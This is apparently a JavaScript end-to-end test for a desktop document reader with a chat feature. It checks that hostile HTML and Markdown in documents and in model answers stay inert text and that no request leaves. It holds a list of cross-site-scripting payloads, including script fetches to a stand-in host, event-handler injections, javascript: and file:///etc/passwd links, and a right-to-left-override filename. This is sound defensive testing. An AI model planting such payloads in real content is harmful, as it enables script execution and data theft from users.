// A document and a model that mean harm: everything is shown as text, nothing runs, no request leaves, the layout holds.
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { scriptedModel, sourceWith } from "./model.mjs";
import { Conversation } from "./pages/conversation.mjs";
import { Library } from "./pages/library.mjs";
import { Reader } from "./pages/reader.mjs";
import { Home, interactions, requirePrograms, Window } from "./recto.mjs";

const RIGHT_TO_LEFT_OVERRIDE = "\u202E";
const COLUMNS = 60;
const ROWS = 30;
const FACT = "The vault holds 7,312 sealed letters";

test("hostile content", { timeout: 600_000 }, async (t) => {
  requirePrograms();
  const home = new Home();
  t.after(() => home.remove());
  const visits = [];
  const server = createServer((request, response) => {
    visits.push(request.url);
    response.setHeader("access-control-allow-origin", "*").end("reached");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.after(() => server.close());
  const outside = `http://127.0.0.1:${server.address().port}`;
  const model = await scriptedModel(t, (prompt) => answer(outside, sourceWith(prompt, FACT)), { pauseMs: 0 });

  const page = join(home.folder, "vault.html");
  writeFileSync(page, document(outside));
  const notes = join(home.folder, `notes${RIGHT_TO_LEFT_OVERRIDE}fdp.md`);
  writeFileSync(notes, `# ${RIGHT_TO_LEFT_OVERRIDE}Reversed title of the notes\n\n${attacks(outside)}\n\nNothing else is known of the tower.\n`);

  const window = await Window.open(home);
  t.after(() => window.kill());
  const step = interactions(t, () => window);
  const { session } = window;
  const conversation = new Conversation(session);
  const reader = new Reader(session);
  const library = new Library(session);
  await library.isShown();
  await session.script("globalThis.attacked = undefined; globalThis.alert = () => { globalThis.attacked = 'alert'; }");
  await session.call("set_chat_model", { model: model.settings });
  await library.drop([page, notes]);
  await library.rowWithState("Vault", "ready");
  await library.rowWithState("Reversed title", "ready");

  const nothingHappened = async () => {
    await sleep(500);
    assert.deepEqual(visits, [], "no request has left");
    assert.equal(await session.script("return globalThis.attacked ?? null"), null, "nothing has run");
    assert.match(await session.script("return location.href"), /^(tauri:|http:\/\/tauri\.localhost)/);
    const foreign = await session.script(`return [...document.querySelectorAll("#root *, body > div *")]
      .filter((element) => ["SCRIPT", "IFRAME", "OBJECT", "EMBED", "FORM", "VIDEO", "AUDIO", "LINK", "STYLE", "BASE", "META"].includes(element.tagName)
        && element.closest("[data-testid=answer], [data-testid=laid-out], [data-testid=library], [data-testid=search-results], [data-testid=chip-card]"))
      .map((element) => element.outerHTML)`);
    assert.deepEqual(foreign, [], "no element of theirs is in the page");
    const images = await session.script(`return [...document.images].map((image) => image.src).filter((src) => !/^(page:|http:\\/\\/page\\.localhost|data:)/.test(src))`);
    assert.deepEqual(images, [], "no image of theirs is in the page");
    const links = await session.script(`return [...document.querySelectorAll("a[href]")].map((link) => link.href).filter((href) => /^(javascript|data|vbscript|file):/i.test(href))`);
    assert.deepEqual(links, [], "no link of theirs runs anything");
  };
  /** Nothing is wider than its place, but what scrolls by itself. */
  const layoutHolds = async () => {
    const wide = await session.script(`const root = document.documentElement;
      const transcript = document.querySelector('[data-testid="transcript"]');
      const library = document.querySelector('[data-testid="library"]');
      return { root: root.scrollWidth - innerWidth, body: document.body.scrollHeight - innerHeight,
        transcript: transcript.scrollWidth - transcript.clientWidth, library: library.scrollWidth - library.clientWidth }`);
    assert.deepEqual(wide, { root: 0, body: 0, transcript: 0, library: 0 });
  };

  await step("a document full of HTML is laid out as text", async () => {
    await reader.open("Vault");
    await session.find('[data-testid="laid-out"]');
    const text = await session.text('[data-testid="laid-out"]');
    assert.ok(text.includes(FACT), text.slice(0, 400));
    await nothingHappened();
    await layoutHolds();
    await window.picture("hostile-1-document");
  });

  await step("a document whose Markdown attacks is laid out as text", async () => {
    await reader.open("Reversed title");
    await session.find('[data-testid="laid-out"]');
    await nothingHappened();
    await layoutHolds();
    await window.picture("hostile-2-markdown");
  });

  await step("a model's answer full of HTML, images and links is shown as text", async () => {
    await conversation.ask("How many sealed letters does the vault hold?");
    await conversation.hasEnded("answered");
    const text = await conversation.lastText();
    assert.ok(text.includes("<script>"), "what it wrote as HTML stands there as it was written");
    await session.find('[data-testid="answer"] button.chip');
    await nothingHappened();
    await layoutHolds();
    await window.picture("hostile-3-answer");
  });

  await step("a table far wider than the column scrolls by itself", async () => {
    const table = await session.script(`const table = document.querySelector('[data-testid="answer"] table');
      const scrolls = [...(function* () { for (let one = table; one; one = one.parentElement) yield one; })()]
        .find((one) => one.scrollWidth > one.clientWidth + 1 && getComputedStyle(one).overflowX !== "visible");
      return { columns: table.rows[0].cells.length, rows: table.rows.length, scrolls: scrolls?.closest("[data-testid=answer]") != null }`);
    assert.deepEqual(table, { columns: COLUMNS, rows: ROWS + 1, scrolls: true });
  });

  await step("its links show their address first and open nothing by themselves", async () => {
    const before = await session.script("return location.href");
    await session.script(`for (const link of document.querySelectorAll('[data-testid="answer"] :is(a, button.link, [role=link])')) link.click()`);
    await nothingHappened();
    assert.equal(await session.script("return location.href"), before);
    await window.picture("hostile-4-link");
    await session.press("Escape");
  });

  await step("the citation and the search show it as text too", async () => {
    const chip = await session.script(`return document.querySelector('[data-testid="answer"] button.chip').dataset.testid`);
    await session.script("document.querySelector(arguments[0]).scrollIntoView({ block: 'center' })", `button[data-testid="${chip}"]`);
    await session.hover(`button[data-testid="${chip}"]`);
    await session.find('[data-testid="chip-card"]');
    await nothingHappened();
    await session.press("Escape");
    await session.press("Control+Shift+f");
    await session.find('[data-testid="search-field"]');
    await session.typeText("vault script");
    await session.find('[data-testid="search-result"]');
    await nothingHappened();
    await layoutHolds();
    await window.picture("hostile-5-search");
    await session.press("Escape");
  });

  await step("a title that turns the direction of text turns nothing around it", async () => {
    await session.hover('[data-testid="document-row"]');
    const actions = await session.findWithText('[data-testid="document-actions"]', "Reversed title");
    await actions.click();
    const remove = await session.findWithText('[role="menuitem"]', "Delete");
    await remove.click();
    const notice = await session.until("it is said", `return document.querySelector('[data-testid="undo-notice"]')?.textContent`);
    assert.ok(notice.includes(`\u2068${RIGHT_TO_LEFT_OVERRIDE}Reversed title of the notes\u2069`), JSON.stringify(notice));
    await window.picture("hostile-6-title");
  });

  await window.quit();
});

/** What Markdown and models write to be more than text. */
function attacks(outside) {
  return [
    `<script>globalThis.attacked = "script"; fetch("${outside}/script")</script>`,
    `<img src="${outside}/image.png" onerror="globalThis.attacked = 'onerror'">`,
    `![remote](${outside}/markdown.png?secret=1)`,
    `<iframe src="${outside}/frame"></iframe> <svg onload="globalThis.attacked = 'svg'"><use href="${outside}/use.svg#x"/></svg>`,
    `[run](javascript:globalThis.attacked='link') and [data](data:text/html,<script>alert(1)</script>) and [file](file:///etc/passwd)`,
    `<a href="javascript:alert(1)">press</a> <form action="${outside}/form"><button>send</button></form>`,
    `<style>@import url("${outside}/style.css"); * { display: none }</style> <link rel="stylesheet" href="${outside}/link.css">`,
    `<meta http-equiv="refresh" content="0; url=${outside}/refresh"> <base href="${outside}/">`,
    `An outside [page](${outside}/page), a note[^15] and ${RIGHT_TO_LEFT_OVERRIDE}text that runs backwards.`,
    "[^15]: The note.",
    `${"unbroken".repeat(400)}`,
  ].join("\n\n");
}

function answer(outside, source) {
  const row = (cell) => `| ${Array.from({ length: COLUMNS }, (_, at) => cell(at)).join(" | ")} |`;
  const table = [row((at) => `Column ${at}`), row(() => "---"), ...Array.from({ length: ROWS }, (_, line) => row((at) => `${line}/${at}`))];
  return [`“${FACT}” [${source}].`, attacks(outside), table.join("\n"), "$$\\href{javascript:alert(1)}{x}$$"].join("\n\n");
}

function document(outside) {
  const cells = Array.from({ length: COLUMNS }, (_, at) => `<td>cell ${at}</td>`).join("");
  return `<!doctype html><html><head><title>Vault</title><script src="${outside}/head.js"></script></head>
    <body onload="globalThis.attacked = 'onload'"><h1>Vault</h1><p>${FACT}, and none was ever opened.</p>
    <p>&lt;script&gt;globalThis.attacked = "escaped"&lt;/script&gt; is how the letters begin.</p>
    ${attacks(outside)}<table>${`<tr>${cells}</tr>`.repeat(40)}</table></body></html>`;
}
